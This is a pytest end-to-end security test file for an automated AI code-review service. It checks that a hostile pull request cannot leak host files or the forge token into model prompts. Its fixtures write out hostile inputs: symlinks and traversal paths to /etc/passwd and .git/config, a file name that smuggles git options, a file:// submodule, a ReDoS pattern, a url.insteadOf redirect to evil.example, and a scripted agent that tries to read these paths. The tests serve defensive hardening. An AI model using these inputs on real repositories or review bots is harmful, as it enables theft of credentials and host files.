"""Hostile repositories and tools: nothing of the host, and never the token, reaches a prompt.

Attack: a PR whose tree holds symlinks to /etc/passwd and .git/config, a huge sparse file, a
very deep tree, a .gitmodules pointing at file://, and odd file names, reviewed with the
agentic verifier whose model asks to read and search those paths. Controls: hermetic clone
(no submodules, token only in the fetch env), sparse exclusion of huge files, reads with no
symlink following, RE2 search, analysis in a child process. See ref-security.md 2.4-2.5.
"""

from __future__ import annotations

import asyncio
import json
from typing import Any

import httpx
import pytest
from structlog.testing import capture_logs
from tests.e2e._harness import Harness, finding, line_of, review_answer
from tests.fakes.forge import FakeForge
from tests.fakes.forge_git import Symlink
from tests.fakes.llm import reply
from tests.fakes.llm_script import RecordedRequest, server_error
from tests.unit.gateway.support import settings
from tests.unit.sandbox._helpers import require

from auto_review.errors import LLMError
from auto_review.gateway import GatewayMetrics, ServiceParts, pipeline_runner
from auto_review.hosts import ForgejoHost, HeadSha, RepoRef
from auto_review.llm import LLMClient
from auto_review.review import Outcome, ReviewRequest, Trigger, workspace
from auto_review.review._options import PipelineOptions
from auto_review.sandbox import Tier

HEAD = "import os\n\n\ndef run(cmd):\n    return os.system(cmd)\n"
BUG = "return os.system(cmd)"
PASSWD_MARK = "root:x:0:0"


def _hostile_pr(forge: FakeForge) -> int:
    forge.create_repo("eve/evil", {"README.md": "# evil\n"})
    deep = "/".join(f"d{i}" for i in range(120)) + "/leaf.py"
    files: dict[str, Any] = {
        "src/run.py": HEAD,
        "passwd": Symlink("/etc/passwd"),
        "cfg": Symlink(".git/config"),
        "src/up.py": Symlink("../../../../../../etc/passwd"),
        ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = file:///etc\n',
        "huge.bin": bytes(64 * 1024 * 1024),
        deep: "Z = 1\n",
        "..%2f..%2fetc%2fpasswd.py": "A = 1\n",
        "-rf --upload-pack=touch.py": "B = 2\n",
    }
    forge.push("eve/evil", "attack", files)
    return forge.open_pull("eve/evil", head="attack", title="harmless", author="eve").number


def _agent(request: RecordedRequest) -> dict[str, Any]:
    """A cheap model that tries every path it can think of, then keeps the finding."""
    text = request.text()
    tries = [
        {"tool": "read_file", "path": "passwd"},
        {"tool": "read_file", "path": "cfg"},
        {"tool": "read_file", "path": "src/up.py"},
        {"tool": "read_file", "path": "../../../../etc/passwd"},
        {"tool": "read_file", "path": "/etc/passwd"},
        {"tool": "search", "pattern": "root:.*:0:0", "path": None},
        {"tool": "search", "pattern": "(a+)+$", "path": "huge.bin"},
    ]
    done = text.count(" -> {")
    base = {"path": None, "pattern": None, "start_line": None, "end_line": None, "keep": None,
            "reason": None}  # fmt: skip
    if done < len(tries) and done < 3:
        return {**base, **tries[done]}
    return {**base, "tool": "verdict", "keep": True, "reason": "real"}


def test_hostile_repository_cannot_leak_host_files_or_token_into_prompts(
    harness: Harness,
) -> None:
    number = _hostile_pr(harness.forge)
    line = line_of(HEAD, BUG)
    answer = review_answer(finding("src/run.py", line, BUG, message="command injection"))

    def respond(request: RecordedRequest) -> Any:
        fmt = request.response_format or {}
        name = fmt.get("json_schema", {}).get("name", "")
        if "agent" in name:
            return reply(json.dumps(_agent(request)))
        return reply(json.dumps(answer))

    harness.model.respond_with(respond)
    options = PipelineOptions(
        workspace_parent=harness.tmp_path, report_errors=True, agentic_verifier=True
    )
    outcome = asyncio.run(harness.run("eve/evil", number, options=options))
    assert outcome.outcome is Outcome.POSTED
    assert outcome.errors == 1
    sent = "\n".join(json.dumps(r.body) for r in harness.model.requests)
    assert PASSWD_MARK not in sent
    assert harness.forge.bot_token not in sent
    assert "extraHeader" not in sent
    assert "[core]" not in sent  # .git/config content
    # Positive controls: the workspace was really there (the agentic verifier only runs with a
    # checkout) and the agent's tools really ran (their refusals came back to the model).
    [review] = harness.forge.repo("eve/evil").reviews
    assert "could not be checked out" not in review.body
    assert "symlinks are not followed" in sent
    # Nothing was left behind: the workspace is gone, the submodule never fetched.
    assert not any(p.name.startswith("ar-ws-") for p in harness.tmp_path.iterdir())


def test_clone_steered_to_another_origin_is_refused_and_only_the_log_says_where(
    harness: Harness, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Attack: git, exploited by a hostile repository while it holds the forge token, connects
    to the attacker's server on the forge's port (here a url.insteadOf rule stands in for the
    exploit). Control: the full tier's egress proxy refuses it (F9, ADR 0009); the review goes
    on with the diff only, its note says so in fixed words, and a structured warning names the
    refused destination for the operator, without the token in either."""
    require(Tier.FULL)
    number = _hostile_pr(harness.forge)
    port = harness.forge.url.rsplit(":", 1)[1]
    rule = f"url.http://evil.example:{port}/.insteadOf={harness.forge.url}/"
    monkeypatch.setattr(workspace, "HARDENING", (*workspace.HARDENING, rule))
    harness.answer_reviews(review_answer())
    with capture_logs() as logged:
        outcome = asyncio.run(harness.run("eve/evil", number))
    assert outcome.outcome is Outcome.POSTED
    [review] = harness.forge.repo("eve/evil").reviews
    refused = "the sandbox refused the clone's connection to another host"
    assert f"could not be checked out (git fetch failed (exit 128): {refused} (not the " in (
        review.body
    )
    assert "evil.example" not in review.body  # git chose it: the operator's log names it
    [warning] = [e for e in logged if e["event"] == "clone_egress_refused"]
    assert warning["log_level"] == "warning"
    assert (warning["repo"], warning["number"], warning["clone"]) == ("eve/evil", number, "failed")
    assert warning["refused"][0] == {
        "status": 403,
        "reason": "destination not allowed by the sandbox policy",
        "destination": f"evil.example:{port}",
    }
    [failed] = [e for e in logged if e["event"] == "checkout_failed"]
    assert failed["git_said"].startswith("fatal:")  # git's words: here, in the log
    assert failed["git_said"] not in review.body
    assert harness.forge.bot_token not in f"{review.body} {logged}"


@pytest.mark.parametrize("model", ["answers", "fails"])
def test_clone_egress_refusals_reach_the_gateway_metrics_once_whatever_the_review_does_next(
    harness: Harness, monkeypatch: pytest.MonkeyPatch, model: str
) -> None:
    """Attack: as above, and the review then fails (here the model refuses every call), so no
    outcome reaches the job's observer. Control: the production pipeline the gateway builds
    tells the gateway's metrics as the clone ends, so the alert on
    ``auto_review_clone_egress_refusals_total`` still fires; counted once per refusal."""
    require(Tier.FULL)
    number = _hostile_pr(harness.forge)
    port = harness.forge.url.rsplit(":", 1)[1]
    rule = f"url.http://evil.example:{port}/.insteadOf={harness.forge.url}/"
    monkeypatch.setattr(workspace, "HARDENING", (*workspace.HARDENING, rule))
    if model == "answers":
        harness.answer_reviews(review_answer())
    else:
        harness.model.respond_with(lambda request: server_error(400, "schema rejected"))
    metrics = GatewayMetrics()
    forge = harness.forge

    async def review() -> Outcome:
        async with httpx.AsyncClient(trust_env=False) as http:
            host = ForgejoHost(http, base_url=forge.url, token=forge.bot_token)
            parts = ServiceParts(
                settings=settings(FORGEJO_BASE_URL=forge.url, AR_FORGEJO_TOKEN=forge.bot_token),
                store=harness.store,
                host=host,
                llm=LLMClient(harness.llm_config, http),
                metrics=metrics,
            )
            repo = RepoRef.parse("eve/evil")
            head = HeadSha((await host.get_pull_request(repo, number)).head_sha)
            outcome = await pipeline_runner(parts).run(
                ReviewRequest(repo, number, head, Trigger.WEBHOOK)
            )
            return outcome.outcome

    with capture_logs() as logged:
        if model == "answers":
            assert asyncio.run(review()) is Outcome.POSTED
        else:
            with pytest.raises(LLMError):
                asyncio.run(review())
    [warning] = [e for e in logged if e["event"] == "clone_egress_refused"]
    counted = metrics.registry.get_sample_value(
        "auto_review_clone_egress_refusals_total", {"reason": "destination_not_allowed"}
    )
    assert counted == warning["count"] >= 1
